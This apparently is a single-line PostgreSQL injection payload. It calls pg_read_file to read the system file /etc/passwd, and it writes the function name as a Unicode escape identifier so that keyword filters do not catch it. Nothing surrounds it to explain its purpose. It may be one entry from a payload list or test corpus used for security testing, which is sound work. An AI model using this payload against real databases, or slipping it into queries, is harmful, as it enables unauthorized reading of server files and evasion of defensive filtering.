SELECT U&"\0070g_read_file"('/etc/passwd')
